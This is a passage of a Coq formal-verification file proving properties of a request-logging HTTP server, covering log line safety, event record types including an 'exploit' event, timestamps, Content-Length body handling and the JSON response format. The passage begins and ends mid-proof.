  - apply all_printable_encode_str.
  - apply all_printable_str_int.
  - rewrite dumps_obj. cbn [append all_printable]. rewrite all_printable_app.
    assert (H : forall b, all_printable (dumps_items b kvs) = true).
    { induction kvs as [|[k x] kvs IHl]; intros b; [reflexivity|].
      cbn [dumps_items].
      rewrite !all_printable_app, all_printable_encode_str, (IH x), IHl.
      now destruct b. }
    now rewrite H.
Qed.

Section Lines.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).

(** X5: the line that [log] writes is printable ASCII (from the blank to
    the tilde) closed by one line feed, whatever the event type and the
    values are: no text taken from a request can break a line of the log
    or put a control character or a character beyond ASCII into it. *)
Theorem log_line_is_printable_ascii (logtype message : ustr)
        (kwargs : list (ustr * json)) (w : @World Blob) :
  exists text,
    file_writes (trace (snd (log append_block logtype message kwargs w)))
    = (file_writes (trace w) ++ [(text ++ newline)%string])%list /\
    all_printable text = true.
Proof.
  exists (dumps (JObj (log_record logtype (clock w (ticks w)) kwargs))).
  split; [|apply all_printable_dumps].
  rewrite log_trace, file_writes_app. reflexivity.
Qed.
End Lines.
(** ** The log of a whole run *)

Lemma file_writes_snoc t e :
  (forall j, e <> FileWrite j) -> file_writes (t ++ [e]) = file_writes t.
Proof.
  intros He. rewrite file_writes_app.
  destruct e; cbn [file_writes]; try apply app_nil_r.
  now destruct (He text).
Qed.

(** Each call of [log] that the program makes writes an event record. *)
Lemma program_call_event ty kw now :
  program_call ty kw -> event_record (log_record ty now kw).
Proof.
  intros H. split.
  - apply loads_dumps, wf_log_record; destruct H; try reflexivity.
    + cbn [wf_members forallb fst snd wf_json]. now rewrite !wf_latin1.
    + unfold capture_kwargs, wf_members. rewrite forallb_app.
      cbn [forallb fst snd wf_json]. rewrite !wf_latin1, wf_json_of_headers.
      destruct body as [content|]; [|reflexivity].
      cbn [forallb fst snd wf_json]. now rewrite wf_latin1, (read_body_wf self).
    + cbn [wf_members forallb fst snd wf_json]. now rewrite !wf_latin1.
  - destruct H.
    + exists "start". split; [simpl; tauto | reflexivity].
    + exists "end". split; [simpl; tauto | reflexivity].
    + exists "exception". split; [simpl; tauto | reflexivity].
    + exists "request". split; [simpl; tauto | apply has_type_capture].
    + exists "exploit". split; [simpl; tauto | reflexivity].
Qed.

(** No call of the program passes a field named [timestamp]: the field of
    the record is the clock reading of the call. *)
Lemma program_call_timestamp ty kw now :
  program_call ty kw ->
  field (log_record ty now kw) "timestamp"
  = Some (JStr (latin1 (isoformat now))).
Proof.
  intros H. destruct H; try reflexivity. now destruct body.
Qed.

Section WholeRun.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).
Context (server_bind : Z -> outcome unit)
        (traffic : Z -> list Request * option exn).

Implicit Types w : @World Blob.

(** X6: whatever the ports, the traffic, the remote blob and the failures
    on the way, a run of the program appends to the log file nothing but
    whole event lines: each one is the line of a record that reads back
    from it and whose type is one of start, request, exploit, exception
    and end. *)
Theorem log_file_holds_event_lines (ports : list Z) (header : option string) w :
  exists ds,
    file_writes
      (trace (snd (main append_block server_bind traffic ports header w)))
    = (file_writes (trace w) ++ map log_line ds)%list /\
    Forall event_record ds.
Proof.
  apply (inv_main append_block server_bind traffic
           (fun w1 w2 =>
              exists ds,
                file_writes (trace w2)
                = (file_writes (trace w1) ++ map log_line ds)%list /\
                Forall event_record ds)).
  - intros w1. exists []. rewrite app_nil_r. now split.
  - intros w1 w2 w3 (d1 & H1 & F1) (d2 & H2 & F2). exists (d1 ++ d2)%list.
    rewrite H2, H1, map_app, app_assoc. split; [reflexivity|].
    apply Forall_app. now split.
  - intros w1. exists []. rewrite app_nil_r. now split.
  - intros e w1 He. exists []. cbn [emit snd trace map].
    rewrite app_nil_r. split; [|constructor].
    apply file_writes_snoc. intros j ->. discriminate He.
  - intros ty msg kw w1 Hc. exists [log_record ty (clock w1 (ticks w1)) kw].
    rewrite log_trace, file_writes_app. split; [reflexivity|].
    constructor; [|constructor]. now apply program_call_event.
  - intros e w1 He. exists []. cbn [emit snd trace map].
    rewrite app_nil_r. split; [|constructor].
    apply file_writes_snoc. intros j ->. exact He.
Qed.

(** X13: when the clock gives valid dates, every event that a run appends
    to the log file carries, in its field [timestamp], a reading of the
    clock in the format of ISO 8601 ([YYYY-MM-DDTHH:MM:SS], with the
    microseconds after it when they are not zero). *)
Theorem every_event_is_timestamped (ports : list Z) (header : option string) w :
  (forall k, valid_datetime (clock w k)) ->
  exists ds,
    file_writes
      (trace (snd (main append_block server_bind traffic ports header w)))
    = (file_writes (trace w) ++ map log_line ds)%list /\
    Forall (fun d => exists k,
              field d "timestamp"
              = Some (JStr (latin1 (isoformat (clock w k)))) /\
              iso8601 (isoformat (clock w k)) = true) ds.
Proof.
  intros Hv.
  destruct (inv_main append_block server_bind traffic
              (fun w1 w2 =>
                 clock w2 = clock w1 /\
                 exists ds,
                   file_writes (trace w2)
                   = (file_writes (trace w1) ++ map log_line ds)%list /\
                   Forall (fun d => exists k,
                             field d "timestamp"
                             = Some (JStr (latin1 (isoformat (clock w1 k)))))
                          ds)) with (ports := ports) (header := header) (w := w)
    as (_ & ds & Hw & Hf).
  - intros w1. split; [reflexivity|]. exists []. rewrite app_nil_r.
    now split.
  - intros w1 w2 w3 (C1 & d1 & H1 & F1) (C2 & d2 & H2 & F2).
    split; [congruence|]. exists (d1 ++ d2)%list.
    rewrite H2, H1, map_app, app_assoc. split; [reflexivity|].
    apply Forall_app. split; [exact F1|]. now rewrite <- C1.
  - intros w1. split; [reflexivity|]. exists []. rewrite app_nil_r.
    now split.
  - intros e w1 He. split; [reflexivity|]. exists [].
    cbn [emit snd trace map]. rewrite app_nil_r. split; [|constructor].
    apply file_writes_snoc. intros j ->. discriminate He.
  - intros ty msg kw w1 Hc. split.
    + rewrite log_run. cbv zeta. now destruct (blob w1).
    + exists [log_record ty (clock w1 (ticks w1)) kw].
      rewrite log_trace, file_writes_app. split; [reflexivity|].
      constructor; [|constructor]. exists (ticks w1).
      now apply program_call_timestamp.
  - intros e w1 He. split; [reflexivity|]. exists [].
    cbn [emit snd trace map]. rewrite app_nil_r. split; [|constructor].
    apply file_writes_snoc. intros j ->. exact He.
  - exists ds. split; [exact Hw|].
    apply Forall_impl with (2 := Hf). intros d (k & Hk).
    exists k. split; [exact Hk|]. apply isoformat_iso8601, Hv.
Qed.

End WholeRun.
(** ** One request *)

Lemma scan_spec_length ss ds : scan_spec ss ds -> List.length ds <= List.length ss.
Proof. induction 1; simpl; lia. Qed.

Lemma wfile_writes_app (a b : list effect) :
  wfile_writes (a ++ b) = (wfile_writes a ++ wfile_writes b)%list.
Proof.
  induction a as [|e a IH]; [reflexivity|].
  destruct e; simpl; rewrite ?IH; reflexivity.
Qed.

Lemma wfile_writes_file_effects rest :
  forallb is_file_effect rest = true -> wfile_writes rest = [].
Proof.
  induction rest as [|e rest IH]; [reflexivity|]. cbn [forallb].
  intros H. apply andb_true_iff in H as [He H].
  destruct e; try discriminate He; exact (IH H).
Qed.

Lemma length_exploit_records self u clk ds : forall t,
  List.length (exploit_records self u clk t ds) = List.length ds.
Proof.
  induction ds as [|d ds IH]; intros t; [reflexivity|].
  simpl. now rewrite IH.
Qed.

Section OneRequest.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).

Implicit Types w : @World Blob.

(** X3: the handler reads a body exactly when a header line is spelled
    [Content-Length], letter for letter: a request that spells the name
    otherwise (as HTTP allows) is logged without the field [body].  When
    the name is there its value is found (that lookup ignores the case),
    so the conversion to a number never meets a missing value: reading
    the body never raises a [TypeError]. *)
Theorem length_header_is_matched_exactly server self w :
  let u := uuid_of_random (urandom w (draws w)) in
  let record := capture_record server self u (clock w (ticks w)) None in
  (read_body self = Ok None <->
   ~ In "Content-Length" (msg_keys (headers self))) /\
  (read_body self = Ok None ->
   field record "body" = None /\
   exists more,
     file_writes (trace (snd (do append_block server self w)))
     = (file_writes (trace w) ++ log_line record :: more)%list) /\
  (In "Content-Length" (msg_keys (headers self)) ->
   exists name v,
     In (name, v) (headers self) /\ lower name = lower "Content-Length" /\
     msg_get (headers self) "Content-Length" = Some v) /\
  (forall msg, read_body self <> Raise (TypeError msg)).
Proof.
  intros u record. split; [|split; [|split]].
  - pose proof (dict_mem_of_message (headers self) "Content-Length") as Hm.
    unfold read_body.
    destruct (dict_mem _ _ _).
    + split; [|intros H; destruct H; now apply Hm].
      intros H. exfalso.
      destruct (match msg_get _ _ with Some v => py_int v | None => _ end);
        [|discriminate H].
      destruct (rfile_read _ _); [|discriminate H].
      destruct (utf8_decode _); discriminate H.
    + split; [|reflexivity]. intros _ H. apply Hm in H. discriminate H.
  - intros Hb. split; [reflexivity|].
    destruct (do_logged append_block server self w) as (rest & Ht & _ & Hd).
    rewrite Hb in Hd. destruct Hd as (ds & _ & _ & Hw & _).
    eexists. rewrite Ht, !file_writes_app, file_writes_fixed_response, Hw.
    reflexivity.
  - intros Hin. exact (msg_get_found _ _ Hin).
  - intros msg. apply read_body_no_type_error.
Qed.

(** X4: handling one request appends at most two lines more than the
    request has header lines: the capture event, and one exploit event
    for the request line and for each header line at the most. *)
Theorem log_lines_per_request server self w :
  exists lines,
    file_writes (trace (snd (do append_block server self w)))
    = (file_writes (trace w) ++ lines)%list /\
    List.length lines <= 2 + List.length (headers self).
Proof.
  destruct (do_logged append_block server self w) as (rest & Ht & _ & Hd).
  exists (file_writes rest).
  rewrite Ht, !file_writes_app, file_writes_fixed_response.
  split; [reflexivity|].
  destruct (read_body self) as [body|e].
  - destruct Hd as (ds & ss1 & ss2 & -> & Hs & Hscan & _).
    apply scan_spec_length in Hscan.
    assert (Hl : List.length (surfaces self) = S (List.length (headers self)))
      by (unfold surfaces; simpl; now rewrite length_map).
    rewrite Hs, length_app in Hl.
    cbn [map List.length]. rewrite length_map, length_exploit_records. lia.
  - destruct Hd as [_ ->]. simpl. lia.
Qed.

(** The world after [do]: one response body more, one random draw more. *)
Lemma do_answer server self w :
  let u := uuid_of_random (urandom w (draws w)) in
  let w' := snd (do append_block server self w) in
  wfile_writes (trace w') = (wfile_writes (trace w) ++ [response_body u])%list /\
  urandom w' = urandom w /\ draws w' = S (draws w).
Proof.
  intros u w'. subst w'. split.
  - destruct (do_logged append_block server self w) as (rest & Ht & Hf & _).
    rewrite Ht, !wfile_writes_app, (wfile_writes_file_effects rest Hf).
    reflexivity.
  - rewrite do_run. cbv zeta. set (w0 := mkWorld _ _ _ _ _ _).
    destruct (read_body self) as [body|e]; [|split; reflexivity].
    pose proof (log_logged append_block (latin1 "request")
                  (latin1 "A request was received")
                  (capture_kwargs server self
                     (uuid_of_random (urandom w (draws w))) body) w0) as Hl.
    destruct (log _ _ _ _ w0) as [[[]|e] w1]; cbn [snd] in Hl;
      destruct Hl as (_ & _ & _ & _ & _ & _ & Hu1 & Hd1).
    + destruct (scan_run append_block self
                  (uuid_of_random (urandom w (draws w))) (surfaces self) w1)
        as (ds & (_ & _ & _ & _ & _ & _ & Hu2 & Hd2) & _).
      rewrite Hu2, Hd2, Hu1, Hd1. split; reflexivity.
    + cbn [snd]. rewrite Hu1, Hd1. split; reflexivity.
Qed.

End OneRequest.
(** ** The announced body *)

Lemma digits_from_uint d : forall acc,
  digits_from (Z.pos acc) (NilEmpty.string_of_uint d)
  = Some (Z.pos (Pos.of_uint_acc d acc)).
Proof.
  induction d; intros acc; cbn [NilEmpty.string_of_uint Pos.of_uint_acc];
    [reflexivity| ..];
    (cbn [digits_from];
     match goal with
     | |- (if is_digit ?c then _ else _) = _ =>
         replace (is_digit c) with true by reflexivity
     end;
     rewrite <- IHd; f_equal;
     match goal with
     | |- context [digit_val ?c] =>
         let v := eval vm_compute in (digit_val c) in
         change (digit_val c) with v
     end; lia).
Qed.

Lemma digits_pos p :
  digits (NilZero.string_of_uint (Pos.to_uint p)) = Some (Z.pos p).
Proof.
  pose proof (Unsigned.of_to p) as H.
  pose proof (to_uint_head p) as Hz.
  destruct (Pos.to_uint p) as [|l|l|l|l|l|l|l|l|l|l];
    cbn [Pos.of_uint] in H; try discriminate H;
    try (now destruct (Hz l));
    injection H as <-;
    cbn [NilZero.string_of_uint NilEmpty.string_of_uint digits];
    match goal with
    | |- (if is_digit ?c then _ else _) = _ =>
        replace (is_digit c) with true by reflexivity
    end;
    exact (digits_from_uint l _).
Qed.

Lemma run_from_uint d :
  run_from (NilEmpty.string_of_uint d) = Some (nb_digits d).
Proof.
  induction d; cbn [NilEmpty.string_of_uint nb_digits run_from];
    [reflexivity| ..];
    (match goal with
     | |- (if is_digit ?c then _ else _) = _ =>
         replace (is_digit c) with true by reflexivity
     end; now rewrite IHd).
Qed.

Lemma digit_run_pos p :
  digit_run (NilZero.string_of_uint (Pos.to_uint p))
  = Some (nb_digits (Pos.to_uint p)).
Proof.
  pose proof (Unsigned.of_to p) as H.
  destruct (Pos.to_uint p) as [|l|l|l|l|l|l|l|l|l|l];
    cbn [Pos.of_uint] in H; try discriminate H;
    cbn [NilZero.string_of_uint NilEmpty.string_of_uint digit_run nb_digits];
    match goal with
    | |- (if is_digit ?c then _ else _) = _ =>
        replace (is_digit c) with true by reflexivity
    end;
    now rewrite run_from_uint.
Qed.

(** A numeral of [k] digits that does not start with a zero is at least
    [10 ^ (k - 1)]. *)
Lemma of_uint_acc_lower l : forall acc,
  (Z.pos acc * 10 ^ Z.of_nat (nb_digits l) <= Z.pos (Pos.of_uint_acc l acc))%Z.
Proof.
  induction l; intros acc; cbn [nb_digits Pos.of_uint_acc];
    [rewrite Z.pow_0_r; lia| ..];
    (rewrite Nat2Z.inj_succ, Z.pow_succ_r by lia;
     match goal with
     | |- (_ <= Z.pos (Pos.of_uint_acc _ ?a))%Z =>
         specialize (IHl a);
         assert (0 < 10 ^ Z.of_nat (nb_digits l))%Z
           by (apply Z.pow_pos_nonneg; lia);
         nia
     end).
Qed.

Lemma nb_digits_pos p (k : nat) :
  (Z.pos p < 10 ^ Z.of_nat k)%Z -> nb_digits (Pos.to_uint p) <= k.
Proof.
  intros Hlt. pose proof (Unsigned.of_to p) as H.
  pose proof (to_uint_head p) as Hz.
  destruct (Nat.le_gt_cases (nb_digits (Pos.to_uint p)) k) as [Hle|Hgt];
    [exact Hle|exfalso].
  destruct (Pos.to_uint p) as [|l|l|l|l|l|l|l|l|l|l];
    cbn [Pos.of_uint] in H; try discriminate H;
    try (now destruct (Hz l));
    injection H as <-; cbn [nb_digits] in Hgt;
    match type of Hlt with
    | (Z.pos (Pos.of_uint_acc _ ?a) < _)%Z =>
        pose proof (of_uint_acc_lower l a) as Hlow
    end;
    assert (Hpow : (10 ^ Z.of_nat k <= 10 ^ Z.of_nat (nb_digits l))%Z)
      by (apply Z.pow_le_mono_r; lia);
    nia.
Qed.

(** A string that starts with a digit is converted as it stands. *)
Lemma py_int_digit c s :
  is_digit c = true ->
  py_int (String c s) =
  match digit_run (String c s) with
  | Some k =>
      if (max_str_digits <? k)%nat
      then Raise (ValueError
             ("Exceeds the limit (4300 digits) for integer string conversion: "
              ++ "value has " ++ NilZero.string_of_uint (Nat.to_uint k)
              ++ " digits; use sys.set_int_max_str_digits() to increase "
              ++ "the limit"))
      else match digits (String c s) with
           | Some z => Ok z
           | None => Raise (ValueError
                        ("invalid literal for int() with base 10: "
                         ++ String c s))
           end
  | None => Raise (ValueError
                     ("invalid literal for int() with base 10: " ++ String c s))
  end.
Proof.
  intros Hd.
  destruct c as [[] [] [] [] [] [] [] []]; try discriminate Hd; reflexivity.
Qed.

(** [int(str(z))] is [z], for a number of at most 4300 digits. *)
Lemma py_int_str_int z :
  (Z.abs z < 10 ^ Z.of_nat max_str_digits)%Z -> py_int (str_int z) = Ok z.
Proof.
  intros Hz. unfold str_int. destruct z as [|p|p]; [reflexivity| |].
  - cbn [Z.to_int NilZero.string_of_int].
    pose proof (digits_pos p) as H. pose proof (digit_run_pos p) as Hr.
    pose proof (nb_digits_pos p max_str_digits Hz) as Hk.
    destruct (NilZero.string_of_uint (Pos.to_uint p)) as [|c s] eqn:E;
      [discriminate H|].
    assert (Hd : is_digit c = true).
    { cbn [digits] in H. destruct (is_digit c); [reflexivity | discriminate H]. }
    rewrite (py_int_digit c s Hd), Hr, H.
    now replace (max_str_digits <? nb_digits (Pos.to_uint p))%nat with false
      by (symmetry; apply Nat.ltb_ge; exact Hk).
  - cbn [Z.to_int NilZero.string_of_int].
    pose proof (digits_pos p) as H. pose proof (digit_run_pos p) as Hr.
    pose proof (nb_digits_pos p max_str_digits Hz) as Hk.
    unfold py_int. cbn [lstrip].
    replace (is_space "-") with false by reflexivity.
    cbv zeta. rewrite Hr, H. cbn [option_map].
    now replace (max_str_digits <? nb_digits (Pos.to_uint p))%nat with false
      by (symmetry; apply Nat.ltb_ge; exact Hk).
Qed.

Lemma utf8_decode_from_ascii bs : forall pos,
  forallb (fun b => (b <? 128)%N) bs = true ->
  utf8_decode_from pos bs = Ok bs.
Proof.
  induction bs as [|b bs IH]; intros pos H; [reflexivity|].
  cbn [forallb] in H. apply andb_true_iff in H as [Hb H].
  cbn [utf8_decode_from]. now rewrite Hb, (IH _ H).
Qed.

Lemma utf8_decode_ascii bs :
  forallb (fun b => (Byte.to_N b <? 128)%N) bs = true ->
  utf8_decode bs = Ok (map Byte.to_N bs).
Proof.
  intros H. unfold utf8_decode. apply utf8_decode_from_ascii.
  induction bs as [|b bs IH]; [reflexivity|]. cbn [map forallb] in *.
  apply andb_true_iff in H as [Hb H]. now rewrite Hb, IH.
Qed.
Section AnnouncedBody.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).

Implicit Types w : @World Blob.

(** X10: take a request that has a header spelled [Content-Length] whose
    value (the first one under that name, whatever its case) is the
    decimal numeral of [n].  When the read of [n] bytes returns and the
    bytes it returns are ASCII, these are the first [n] bytes that the
    client sent after the headers (all of them, when it sent fewer), and
    the request is captured with exactly these bytes as the text of the
    field [body]: nothing is cut off, added or changed. *)
Theorem announced_ascii_body_is_logged server self (n : nat) bs w :
  In "Content-Length" (msg_keys (headers self)) ->
  msg_get (headers self) "Content-Length" = Some (str_int (Z.of_nat n)) ->
  rfile_read (rfile self) (Z.of_nat n) = Ok bs ->
  forallb (fun b => (Byte.to_N b <? 128)%N) bs = true ->
  let u := uuid_of_random (urandom w (draws w)) in
  let content := map Byte.to_N bs in
  let record :=
    capture_record server self u (clock w (ticks w)) (Some content) in
  bs = firstn n (rfile self) /\
  read_body self = Ok (Some content) /\
  field record "body" = Some (JStr content) /\
  exists more,
    file_writes (trace (snd (do append_block server self w)))
    = (file_writes (trace w) ++ log_line record :: more)%list.
Proof.
  intros Hin Hget Hread Hascii u content record.
  assert (Hn : (Z.of_nat n <= 9223372036854775807 - 33)%Z
               /\ bs = firstn n (rfile self)).
  { unfold rfile_read in Hread.
    destruct (Z.ltb_spec (Z.of_nat n) (-1)) as [H|_]; [lia|].
    destruct (Z.eqb_spec (Z.of_nat n) (-1)) as [H|_]; [lia|].
    destruct (Z.ltb_spec 9223372036854775807 (Z.of_nat n)) as [H|_];
      [discriminate Hread|].
    destruct (Z.ltb_spec (9223372036854775807 - 33) (Z.of_nat n)) as [H|H];
      [discriminate Hread|].
    rewrite Nat2Z.id in Hread. injection Hread as <-. auto. }
  destruct Hn as [Hmax Hbs].
  assert (Hi : py_int (str_int (Z.of_nat n)) = Ok (Z.of_nat n)).
  { apply py_int_str_int. rewrite Z.abs_eq by lia.
    apply Z.lt_le_trans with (10 ^ 19)%Z.
    - change (10 ^ 19)%Z with 10000000000000000000%Z. lia.
    - apply Z.pow_le_mono_r; unfold max_str_digits; lia. }
  assert (Hb : read_body self = Ok (Some content)).
  { unfold read_body.
    apply dict_mem_of_message in Hin.
    rewrite Hin, Hget, Hi, Hread, (utf8_decode_ascii _ Hascii).
    reflexivity. }
  split; [exact Hbs|]. split; [exact Hb|]. split; [reflexivity|].
  destruct (do_logged append_block server self w) as (rest & Ht & _ & Hd).
  rewrite Hb in Hd. destruct Hd as (ds & _ & _ & Hw & _).
  eexists. rewrite Ht, !file_writes_app, file_writes_fixed_response, Hw.
  reflexivity.
Qed.

End AnnouncedBody.

(** ** The response *)

Lemma plain_char_spec c :
  plain_char c = true ->
  (32 <= N_of_ascii c <= 126)%N /\ Ascii.eqb c dquote = false
  /\ Ascii.eqb c backslash = false.
Proof.
  unfold plain_char, printable. intros H.
  apply andb_true_iff in H as [H Hb]. apply andb_true_iff in H as [Hp Hq].
  apply in_range_spec in Hp. apply negb_true_iff in Hq, Hb. auto.
Qed.

Lemma all_plain_app a b : all_plain (a ++ b) = (all_plain a && all_plain b)%bool.
Proof.
  induction a as [|c a IH]; [reflexivity|]. simpl. now rewrite IH, andb_assoc.
Qed.

(** [json.dumps] writes a string of plain characters between two quotes. *)
Lemma encode_str_plain s : all_plain s = true -> encode_str (latin1 s) = quoted s.
Proof.
  intros H. unfold encode_str, quoted. f_equal. f_equal.
  induction s as [|c s IH]; [reflexivity|].
  cbn [all_plain] in H. apply andb_true_iff in H as [Hc H].
  apply plain_char_spec in Hc as (Hr & Hq & Hb).
  unfold latin1. cbn [list_ascii_of_string map escape_body].
  fold (latin1 s). rewrite (IH H). unfold escape_cp.
  assert (E34 : (N_of_ascii c =? 34)%N = false).
  { apply N.eqb_neq. intros E. rewrite <- (ascii_N_embedding c), E in Hq.
    discriminate Hq. }
  assert (E92 : (N_of_ascii c =? 92)%N = false).
  { apply N.eqb_neq. intros E. rewrite <- (ascii_N_embedding c), E in Hb.
    discriminate Hb. }
  rewrite E34, E92.
  replace ((32 <=? N_of_ascii c) && (N_of_ascii c <=? 126))%N with true
    by (symmetry; apply andb_true_intro; split; apply N.leb_le; lia).
  now rewrite ascii_N_embedding.
Qed.

Lemma plain_hex_digit n : (n < 16)%N -> plain_char (hex_digit n) = true.
Proof.
  intros H. unfold plain_char, printable, in_range, hex_digit.
  destruct (N.ltb_spec n 10);
    rewrite !ascii_of_N_eqb, N_ascii_roundtrip by lia;
    change (N_of_ascii dquote) with 34%N;
    change (N_of_ascii backslash) with 92%N;
    repeat (apply andb_true_intro; split);
    try (apply N.leb_le; lia);
    apply negb_true_iff, N.eqb_neq; lia.
Qed.

Lemma all_plain_hex_rev k : forall n, all_plain (hex_rev k n) = true.
Proof.
  induction k as [|k IH]; intros n; [reflexivity|]. cbn [hex_rev all_plain].
  rewrite IH, andb_true_r.
  replace (N.land n 15) with (N.land (N.shiftr n 0) 15)
    by now rewrite N.shiftr_0_r.
  apply plain_hex_digit, nibble_lt.
Qed.

Lemma all_plain_rev_append s : forall acc,
  all_plain s = true -> all_plain acc = true ->
  all_plain (string_rev_append s acc) = true.
Proof.
  induction s as [|c s IH]; intros acc Hs Ha; [exact Ha|].
  cbn [all_plain] in Hs. apply andb_true_iff in Hs as [Hc Hs].
  cbn [string_rev_append]. apply IH; [exact Hs|].
  cbn [all_plain]. now rewrite Hc.
Qed.

Lemma all_plain_substring s : forall n m,
  all_plain s = true -> all_plain (substring n m s) = true.
Proof.
  induction s as [|c s IH]; intros n m H.
  - now destruct n, m.
  - cbn [all_plain] in H. apply andb_true_iff in H as [Hc H].
    destruct n as [|n]; cbn [substring].
    + destruct m as [|m]; [reflexivity|]. cbn [all_plain].
      now rewrite Hc, (IH 0 m H).
    + apply IH, H.
Qed.

(** [str(uuid)] is made of hexadecimal digits and hyphens. *)
Lemma all_plain_str_uuid u : all_plain (str_uuid u) = true.
Proof.
  assert (H : all_plain (hex32 u) = true)
    by (apply all_plain_rev_append; [apply all_plain_hex_rev | reflexivity]).
  unfold str_uuid. cbv zeta.
  rewrite !all_plain_app, !all_plain_substring by exact H. reflexivity.
Qed.

Lemma read_value_str f s rest :
  wf_ustr s = true ->
  read_value (S f) (dumps (JStr s) ++ rest) = Some (JStr s, rest).
Proof.
  intros H. cbn [dumps]. unfold encode_str.
  cbn [append read_value]. rewrite Ascii.eqb_refl, append_assoc.
  cbn [append]. now rewrite (scan_escape_body s [] rest H).
Qed.

Lemma read_value_members f k t :
  read_value (S f) (String "{" (String " " (encode_str k ++ t)))
  = match read_members f [] (encode_str k ++ t) with
    | Some (d, rest) => Some (JObj d, rest)
    | None => None
    end.
Proof. reflexivity. Qed.

(** The text of the response body, read as JSON. *)
Lemma loads_response s :
  all_plain s = true ->
  loads ("{ " ++ quoted "status" ++ ": " ++ quoted "ok" ++ ", "
         ++ quoted "id" ++ ": " ++ quoted s ++ " }")
  = Some (JObj [(latin1 "status", JStr (latin1 "ok"));
                (latin1 "id", JStr (latin1 s))]).
Proof.
  intros H. rewrite <- (encode_str_plain s H).
  change (quoted "status") with (encode_str (latin1 "status")).
  change (quoted "ok") with (dumps (JStr (latin1 "ok"))).
  change (quoted "id") with (encode_str (latin1 "id")).
  change (encode_str (latin1 s)) with (dumps (JStr (latin1 s))).
  set (k1 := latin1 "status"). set (v1 := JStr (latin1 "ok")).
  set (k2 := latin1 "id"). set (v2 := JStr (latin1 s)).
  set (tail2 := " }").
  set (tail1 := ", " ++ encode_str k2 ++ ": " ++ dumps v2 ++ tail2).
  assert (R2 : forall f, read_value (S f) (dumps v2 ++ tail2) = Some (v2, tail2))
    by (intros f; apply read_value_str, wf_latin1).
  assert (R1 : forall f, read_value (S f) (dumps v1 ++ tail1) = Some (v1, tail1))
    by (intros f; apply read_value_str, wf_latin1).
  assert (M2 : forall f d,
             read_members (S (S f)) d (encode_str k2 ++ ": " ++ dumps v2 ++ tail2)
             = Some (dict_set ustr_eqb d k2 v2, EmptyString)).
  { intros f d. rewrite (read_members_step (S f) d k2 v2 tail2);
      [reflexivity | apply wf_latin1 | apply R2]. }
  assert (M1 : forall f,
             read_members (S (S (S f))) []
               (encode_str k1 ++ ": " ++ dumps v1 ++ tail1)
             = Some ([(k1, v1); (k2, v2)], EmptyString)).
  { intros f. rewrite (read_members_step (S (S f)) [] k1 v1 tail1);
      [|apply wf_latin1 | apply R1].
    change (skip_ws tail1)
      with (String "," (String " " (encode_str k2 ++ ": " ++ dumps v2 ++ tail2))).
    cbv iota.
    change (skip_ws (String " " (encode_str k2 ++ ": " ++ dumps v2 ++ tail2)))
      with (encode_str k2 ++ ": " ++ dumps v2 ++ tail2).
    rewrite M2. reflexivity. }
  change ("{ " ++ encode_str k1 ++ ": " ++ dumps v1 ++ tail1)
    with (String "{" (String " " (encode_str k1 ++ ": " ++ dumps v1 ++ tail1))).
  unfold loads.
  change (skip_ws (String "{" (String " " (encode_str k1 ++ ": " ++ dumps v1 ++ tail1))))
    with (String "{" (String " " (encode_str k1 ++ ": " ++ dumps v1 ++ tail1))).
  change (String.length
            (String "{" (String " " (encode_str k1 ++ ": " ++ dumps v1 ++ tail1))))
    with (S (S (S (String.length
                     (escape_body k1 ++ String dquote EmptyString
                      ++ ": " ++ dumps v1 ++ tail1))))).
  now rewrite read_value_members, M1.
Qed.

Section Response.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).

Implicit Types w : @World Blob.

(** X11: the body of the response, which is announced as [text/json], is
    JSON: it reads as an object with the field [status], the text ok, and
    the field [id], the correlation identifier of the request, which is
    the one that the capture event of the request carries in the log. *)
Theorem response_body_is_json server self w :
  let u := uuid_of_random (urandom w (draws w)) in
  wfile_writes (trace (snd (do append_block server self w)))
  = (wfile_writes (trace w) ++ [response_body u])%list /\
  loads (response_body u)
  = Some (JObj [(latin1 "status", JStr (latin1 "ok"));
                (latin1 "id", JStr (latin1 (str_uuid u)))]) /\
  forall now body,
    field (capture_record server self u now body) "correlation_id"
    = Some (JStr (latin1 (str_uuid u))).
Proof.
  intros u. split; [|split].
  - apply do_answer.
  - apply loads_response, all_plain_str_uuid.
  - intros now body. apply id_capture.
Qed.
End Response.
(** ** Listeners and the whole run *)

Section Serving.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).
Context (server_bind : Z -> outcome unit)
        (traffic : Z -> list Request * option exn).

Implicit Types w : @World Blob.

Lemma comprehension_ok header ports : forall w,
  (forall p, In p ports -> server_bind p = Ok tt) ->
  comprehension (fun p => ServerThread_init server_bind p header) ports w
  = (Ok (map (fun p => {| port := p;
                          server := {| server_address := (EmptyString, p);
                                       server_header := header |} |}) ports),
     w).
Proof.
  induction ports as [|p ports IH]; intros w Hb; [reflexivity|].
  cbn [comprehension]. unfold bind at 1.
  rewrite ServerThread_init_run, (Hb p (or_introl eq_refl)).
  unfold bind. rewrite IH; [reflexivity|].
  intros q Hq. apply Hb. now right.
Qed.

Lemma for_each_emit {A} (f : A -> effect) (l : list A) : forall w,
  for_each l (fun x => emit (f x)) w =
  (Ok tt, mkWorld (trace w ++ map f l) (blob w) (clock w) (ticks w)
                  (urandom w) (draws w)).
Proof.
  induction l as [|x l IH]; intros w.
  - cbn. rewrite app_nil_r. now destruct w.
  - cbn [for_each]. unfold bind. cbn [emit]. rewrite IH.
    cbn [trace blob clock ticks urandom draws map].
    now rewrite <- app_assoc.
Qed.

Lemma log_ok ty msg kw w :
  log_cannot_fail append_block w ->
  fst (log append_block ty msg kw w) = Ok tt /\
  log_cannot_fail append_block (snd (log append_block ty msg kw w)) /\
  clock (snd (log append_block ty msg kw w)) = clock w /\
  ticks (snd (log append_block ty msg kw w)) = S (ticks w).
Proof.
  intros Hl. rewrite log_run. cbv zeta.
  destruct (blob w) as [b|] eqn:Hb.
  - destruct Hl as [Hl|Hl]; [congruence|]. cbn [fst snd clock ticks].
    split; [apply Hl|]. split; [now right|]. auto.
  - cbn [fst snd clock ticks]. split; [reflexivity|].
    split; [now left|]. auto.
Qed.

(** X8: take a run in which every port can be bound, the log cannot fail
    (no remote blob is configured, or its writes succeed) and the serving
    loop of every listener ends with a failure (a loop that meets none
    serves for ever).  The run then ends normally; writing and flushing
    the start event is the first thing it does; later on the end event is
    written and, after it, the log file is closed, not before; and
